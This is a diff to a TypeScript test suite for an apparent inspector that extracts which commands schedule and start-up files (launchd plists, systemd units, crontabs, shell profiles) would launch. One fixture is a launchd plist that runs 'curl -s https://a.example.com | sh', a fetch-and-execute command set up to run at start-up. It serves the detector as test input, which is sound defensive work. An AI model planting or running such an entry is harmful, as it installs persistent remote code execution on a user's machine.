@@ -9,6 +9,7 @@ import type { Effect, SecretClass } from '../../src/inspect/effects/types.js';
 import { TRUSTED_HOST_CLASSES } from '../../src/inspect/effects/classify.js';
 import { languageOf, loadLanguages, lowerScript } from '../../src/inspect/lang/index.js';
 import { lowerShell } from '../../src/inspect/effects/shell.js';
+import { scheduledCommands } from '../../src/inspect/lang/command.js';
 
 const py = (text: string, file = 'skill/run.py'): Effect[] => lowerScript('python', text, file, 'agent');
 const ps = (text: string, file = 'skill/run.ps1'): Effect[] => lowerScript('powershell', text, file, 'agent');
@@ -1054,5 +1055,17 @@ for ($i = 0; $i -lt $hex.Length; $i += 60) {
       ];
       expect(es.filter((e) => e.kind === 'send')).toEqual([]);
     });
+  });
+});
+
+describe('what a schedule or start-up file starts', () => {
+  it.each([
+    ['a launchd plist: the script after sh -c', '<plist version="1.0"><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s https://a.example.com | sh</string></array></dict></plist>', ['curl -s https://a.example.com | sh']],
+    ['a plist with no program', '<plist version="1.0"><dict><key>Label</key><string>x</string></dict></plist>', []],
+    ['a systemd unit: its Exec lines, not its keys', '[Unit]\nDescription=x\n[Service]\nEnvironment=A=1\nExecStartPre=-/usr/bin/mkdir -p /run/x\nExecStart=/usr/local/bin/x --serve\n', ['/usr/bin/mkdir -p /run/x', '/usr/local/bin/x --serve']],
+    ['crontab lines after their schedule, below what was there', '${v0}*/30 * * * * /opt/x/run --quiet\n@reboot /opt/x/start\n# a comment\n', ['/opt/x/run --quiet', '/opt/x/start']],
+    ['a shell start-up file\'s lines', 'export PATH="$HOME/.x/bin:$PATH"\nsource ~/.x/env\n', ['export PATH="$HOME/.x/bin:$PATH"', 'source ~/.x/env']],
+  ])('%s', (_what, text, commands) => {
+    expect(scheduledCommands(text)).toEqual(commands);
   });
 });
